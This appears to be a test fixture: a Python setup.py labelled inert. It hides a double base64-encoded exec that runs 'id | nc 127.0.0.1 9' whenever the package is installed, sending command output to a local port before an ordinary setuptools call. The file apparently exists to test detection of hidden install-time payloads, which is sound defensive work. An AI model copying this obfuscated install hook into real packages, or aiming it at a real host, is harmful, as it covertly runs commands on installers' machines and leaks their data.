# Inert fixture of tidewaiter's tests: never run. Hosts are reserved names or this machine.
import base64

P = "aW1wb3J0IGJhc2U2NApleGVjKGJhc2U2NC5iNjRkZWNvZGUoImFXMXdiM0owSUc5ekNtOXpMbk41YzNSbGJTZ2lhV1FnZkNCdVl5QXhNamN1TUM0d0xqRWdPU0lwQ2c9PSIpKQo="
exec(base64.b64decode(P))


from setuptools import setup

setup(name="fixture", version="1", packages=["fixture"])
